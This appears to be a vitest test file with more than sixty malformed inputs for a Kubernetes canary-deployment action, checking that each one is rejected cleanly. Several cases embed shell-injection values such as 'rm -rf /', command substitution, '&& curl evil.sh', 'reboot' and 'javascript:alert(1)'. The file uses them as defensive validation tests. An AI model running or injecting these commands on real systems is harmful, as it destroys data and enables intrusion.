/**
 * Issue #17: a bad-input corpus for canary-promote. Every case must exit 1 with ONE error line naming the
 * input, and leave the cluster exactly as it was (Deployments, Services, ConfigMaps, Leases, Ingresses).
 */
import type { Deployment } from '@deploy-actions/core/kube';
import { sideDeployment } from '@deploy-actions/core/rollout';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Cluster, NS, startCluster } from './cluster';

let c: Cluster;

beforeAll(async () => {
  c = await startCluster(1760);
  await c.app('kiwi', 'ghcr.io/acme/kiwi:v1', { config: true });
  // What an earlier release left beside kiwi (built the way a release builds them), named below as if stables.
  const stable = await c.client.get<Deployment>('Deployment', { namespace: NS, name: 'kiwi' });
  for (const role of ['canary', 'baseline'] as const) {
    const side = { role, name: `kiwi-${role}`, version: 'v1', template: stable.spec!.template! };
    await c.client.create('Deployment', sideDeployment(stable, side, 'kiwi', 0));
  }
});

afterAll(async () => {
  await c?.stop();
});

const KUBE = '{ name: restarts, provider: kubernetes, signal: restarts, max: 2 }';
const HUGE = 'x'.repeat(100_000);

/** [what, inputs on top of a valid start, the input the error must name]. */
const CASES: Array<[string, Record<string, string>, string]> = [
  ['unknown strategy', { strategy: 'blue' }, 'strategy'],
  ['unknown action', { action: 'go' }, 'action'],
  ['app not a name', { app: 'App_Name' }, 'app'],
  ['app with shell metacharacters', { app: 'web;rm -rf /' }, 'app'],
  ['images empty', { images: '' }, 'images'],
  ['images without =', { images: 'app' }, 'images'],
  ['images without a container', { images: '=ghcr.io/acme/kiwi:v2' }, 'images'],
  ['images: upper-case repository', { images: 'app=ghcr.io/acme/WEB:v3!!' }, 'images'],
  ['images: = in the tag', { images: 'app=ghcr.io/acme/kiwi:v3=x' }, 'images'],
  ['images: 100 KB tag', { images: `app=ghcr.io/acme/kiwi:${HUGE}` }, 'images'],
  ['images: command substitution', { images: 'app=$(touch /tmp/pwned)' }, 'images'],
  ['images: backticks', { images: 'app=`id`' }, 'images'],
  ['images: && in the tag', { images: 'app=ghcr.io/acme/kiwi:v2 && curl evil.sh' }, 'images'],
  ['images: empty tag', { images: 'app=ghcr.io/acme/kiwi:' }, 'images'],
  ['images: bad digest', { images: 'app=ghcr.io/acme/kiwi@sha256:nothex' }, 'images'],
  ['images: unknown container', { images: 'nosuch=ghcr.io/acme/kiwi:v2' }, 'images'],
  ['images: newline injection', { images: 'app=ghcr.io/acme/kiwi:v2\n--privileged' }, 'images'],
  ['steps: weight 0', { steps: '0,100' }, 'steps'],
  ['steps: decreasing', { steps: '50,25,100' }, 'steps'],
  ['steps: above 100', { steps: '101' }, 'steps'],
  ['steps: words', { steps: 'abc' }, 'steps'],
  ['steps: NaN', { steps: '5,NaN,100' }, 'steps'],
  ['steps: 1e308', { steps: '1e308' }, 'steps'],
  ['steps: bad pause', { steps: '[{ weight: 5, pause: forever }, { weight: 100 }]' }, 'steps'],
  ['steps: unknown field', { steps: '[{ weight: 5, colour: red }, { weight: 100 }]' }, 'steps'],
  ['steps: malformed YAML', { steps: '[{ weight: 5' }, 'steps'],
  ['steps: a mapping', { steps: '{ weight: 5 }' }, 'steps'],
  ['steps: huge', { steps: HUGE }, 'steps'],
  ['steps: pause on 100', { steps: '[{ weight: 100, pause: 5m }]' }, 'steps'],
  ['pause: words', { pause: '5 minutes' }, 'pause'],
  ['pause: negative', { pause: '-5m' }, 'pause'],
  ['pause: 25 days (beyond timeout)', { pause: '25d' }, 'pause'],
  ['pause: huge', { pause: '99999999999999d' }, 'pause'],
  ['pause: shell', { pause: '5m; reboot' }, 'pause'],
  ['pause-at: above 100', { 'pause-at': '150' }, 'pause-at'],
  ['pause-at: words', { 'pause-at': 'half' }, 'pause-at'],
  ['router: unknown', { router: 'traefik' }, 'router'],
  ['router: service for a canary', { router: 'service' }, 'router'],
  ['router-config: malformed YAML', { 'router-config': '{ ingress: [' }, 'router-config'],
  ['router-config: nginx without ingress', { router: 'nginx', 'router-config': '{}' }, 'router-config'],
  ['router-config: a list', { 'router-config': '[1, 2]' }, 'router-config'],
  ['analysis: malformed YAML', { analysis: '[{ name: x' }, 'analysis'],
  ['analysis: unknown provider', { analysis: '[{ name: e, provider: graphite, query: up, max: 1 }]' }, 'analysis'],
  ['analysis: no address', { analysis: '[{ name: e, provider: prometheus, query: up, max: 1 }]' }, 'analysis'],
  [
    'analysis: name with shell',
    { analysis: '[{ name: "e;rm -rf /", provider: kubernetes, signal: restarts, max: 1 }]' },
    'analysis',
  ],
  [
    'analysis: bad on-no-data',
    { analysis: '[{ name: e, provider: kubernetes, signal: restarts, max: 1, on-no-data: maybe }]' },
    'analysis',
  ],
  [
    'analysis: interval 0s',
    { analysis: '[{ name: e, provider: kubernetes, signal: restarts, max: 1, interval: 0s }]' },
    'analysis',
  ],
  ['analysis: a number', { analysis: '42' }, 'analysis'],
  ['analysis: huge', { analysis: HUGE }, 'analysis'],
  ['analysis-interval: 0s', { 'analysis-interval': '0s', analysis: `[${KUBE}]` }, 'analysis-interval'],
  ['analysis-interval: words', { 'analysis-interval': 'often' }, 'analysis-interval'],
  ['baseline: not a boolean', { baseline: 'maybe' }, 'baseline'],
  ['on-step-failure: unknown', { 'on-step-failure': 'retry' }, 'on-step-failure'],
  ['post-promotion-analysis: words', { 'post-promotion-analysis': '30 min' }, 'post-promotion-analysis'],
  ['post-promotion-analysis: no metrics', { 'post-promotion-analysis': '30m' }, 'post-promotion-analysis'],
  ['preview-checks: bad url', { 'preview-checks': '[{ name: x, request: { url: 42 } }]' }, 'preview-checks'],
  ['scale-down-delay: words', { 'scale-down-delay': 'later' }, 'scale-down-delay'],
  ['monitor: words', { monitor: 'long' }, 'monitor'],
  ['manifests with canary', { manifests: 'k8s/' }, 'manifests'],
  ['image-pull-secrets with canary', { 'image-pull-secrets': 'ghcr' }, 'image-pull-secrets'],
  ['helm-lint with canary', { 'helm-lint': 'true' }, 'helm-lint'],
  ['chart-version with canary', { 'chart-version': '--set x=1' }, 'chart-version'],
  ['environment-url: not a URL', { 'environment-url': 'not a url' }, 'environment-url'],
  ['environment-url: javascript:', { 'environment-url': 'javascript:alert(1)' }, 'environment-url'],
  ['on-cancel: unknown', { 'on-cancel': 'ignore' }, 'on-cancel'],
  ['dry-run: not a boolean', { 'dry-run': 'yes please' }, 'dry-run'],
  ['timeout: 0s', { timeout: '0s' }, 'timeout'],
  ['timeout: words', { timeout: 'x' }, 'timeout'],
  ['timeout: shell', { timeout: '$(sleep 100)' }, 'timeout'],
  ['notify-webhook: not http', { 'notify-webhook': 'ftp://example.com/hook' }, 'notify-webhook'],
  ['deployments: a canary an earlier release made', { deployments: 'kiwi-canary' }, 'deployments'],
  ['deployments: a baseline beside its stable', { deployments: 'kiwi, kiwi-baseline' }, 'deployments'],
];

describe('canary-promote bad-input corpus', () => {
  it('has at least 60 cases', () => {
    expect(CASES.length).toBeGreaterThanOrEqual(60);
  });

  it.each(CASES)('%s: exit 1, one error line naming the input, nothing changed', async (_what, inputs, input) => {
    const before = c.snapshot();
    const run = await c.run({ deployments: 'kiwi', images: 'app=ghcr.io/acme/kiwi:v2', ...inputs });
    expect(run.code).toBe(1);
    expect(run.errors).toHaveLength(1);
    expect(run.errors[0]).toContain(`Input '${input}'`);
    expect(run.errors[0]!.length).toBeLessThan(2_000);
    expect(c.snapshot()).toEqual(before);
  });

  it('names the side Deployment, its role and the stable to name instead', async () => {
    const run = await c.run({ deployments: 'kiwi-canary', images: 'app=ghcr.io/acme/kiwi:v2' });
    expect(run.errors[0]).toContain('kiwi-canary is the canary Deployment deploy-actions created beside kiwi');
    expect(run.errors[0]).toContain('Example: deployments: kiwi');
    expect(c.find('apps/v1/deployments', 'kiwi-canary-canary')).toBeUndefined();
  });
});
